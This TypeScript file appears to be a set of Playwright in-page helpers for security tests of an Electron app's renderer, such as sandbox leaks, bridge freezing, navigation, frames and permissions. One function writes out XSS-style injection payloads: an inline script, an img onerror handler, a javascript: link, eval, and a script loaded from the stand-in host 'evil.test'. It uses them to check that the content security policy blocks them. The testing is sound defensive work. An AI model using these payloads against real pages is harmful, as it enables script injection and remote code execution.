/** Functions that run inside the page, each alone: Playwright sends their text, so they share nothing. */

interface Baton {
  invoke(channel: string, input?: unknown): Promise<unknown>;
  on(push: string, listener: (payload: unknown) => void): () => void;
}

type BatonWindow = Window & typeof globalThis & { baton: Baton };

export const describeWindow = () => {
  const scope = window as BatonWindow;
  const leaks = ['require', 'process', 'module', 'exports', 'Buffer', 'global', 'electron', 'ipcRenderer'];
  return {
    leaked: leaks.filter((name) => name in scope),
    unusual: Object.getOwnPropertyNames(scope).filter((name) =>
      /stand-?in|electron|playwright|^binding/i.test(name),
    ),
    keys: Object.getOwnPropertyNames(scope.baton).sort(),
    frozen: Object.isFrozen(scope.baton),
    property: Object.getOwnPropertyDescriptor(scope, 'baton')?.writable === false,
    configurable: Object.getOwnPropertyDescriptor(scope, 'baton')?.configurable,
  };
};

export const ask = async ([channel, input]: readonly [string, unknown]): Promise<unknown> => {
  try {
    return await (window as BatonWindow).baton.invoke(channel, input);
  } catch (error) {
    return String(error);
  }
};

/** Tries every way a text could become code, and what of it ran. */
export const tryToRunText = async (): Promise<{ ran: string[]; blocked: string[] }> => {
  const ran: string[] = [];
  const blocked: string[] = [];
  Object.assign(window, { pwned: (how: string) => ran.push(how) });
  document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
  const script = document.createElement('script');
  script.textContent = "pwned('inline script')";
  document.body.append(script);
  const holder = document.createElement('div');
  holder.innerHTML =
    '<img src="data:," onerror="pwned(\'attribute\')"><a href="javascript:pwned(\'link\')">x</a>';
  document.body.append(holder);
  holder.querySelector('a')?.click();
  // Later, on the page's own account: what DevTools evaluates may itself use eval.
  await new Promise<void>((resolve) =>
    setTimeout(() => {
      try {
        // biome-ignore lint/security/noGlobalEval: that it fails is what is tested
        globalThis.eval("pwned('eval')");
      } catch (error) {
        blocked.push(String(error).slice(0, 9));
      }
      resolve();
    }),
  );
  for (const src of [
    'data:text/javascript,pwned("data")',
    'https://evil.test/x.js',
    URL.createObjectURL(new Blob(['pwned("blob")'])),
  ]) {
    await new Promise((resolve) => {
      const outside = document.createElement('script');
      outside.onload = resolve;
      outside.onerror = resolve;
      outside.src = src;
      document.body.append(outside);
    });
  }
  await new Promise((resolve) => setTimeout(resolve, 100));
  return { ran, blocked };
};

export const tryFetch = async (url: string): Promise<number | string> => {
  try {
    return (await fetch(url)).status;
  } catch (error) {
    return String(error);
  }
};

export const statusOf = (paths: readonly string[]): Promise<number[]> =>
  Promise.all(paths.map(async (path) => (await fetch(path)).status));

export const openWindow = (url: string): string => String(window.open(url));

export const clickBlankLink = (url: string): void => {
  const link = document.createElement('a');
  link.href = url;
  link.target = '_blank';
  document.body.append(link);
  link.click();
};

export const goTo = async (url: string): Promise<string> => {
  window.location.href = url;
  await new Promise((resolve) => setTimeout(resolve, 500));
  return window.location.href;
};

/** What a frame inside the page is given. */
export const describeFrame = async (src: string): Promise<{ loaded: string; baton: string }> => {
  const frame = document.createElement('iframe');
  if (src !== '') frame.src = src;
  const settled = new Promise((resolve) => {
    frame.onload = resolve;
    setTimeout(resolve, 1000);
  });
  document.body.append(frame);
  await settled;
  try {
    const inner = frame.contentWindow as BatonWindow | null;
    return { loaded: String(inner?.location.href), baton: typeof inner?.baton };
  } catch (error) {
    return { loaded: String(error).slice(0, 40), baton: 'unreachable' };
  }
};

export const permissionStates = (names: readonly string[]): Promise<string[]> =>
  Promise.all(
    names.map(async (name) => (await navigator.permissions.query({ name: name as PermissionName })).state),
  );
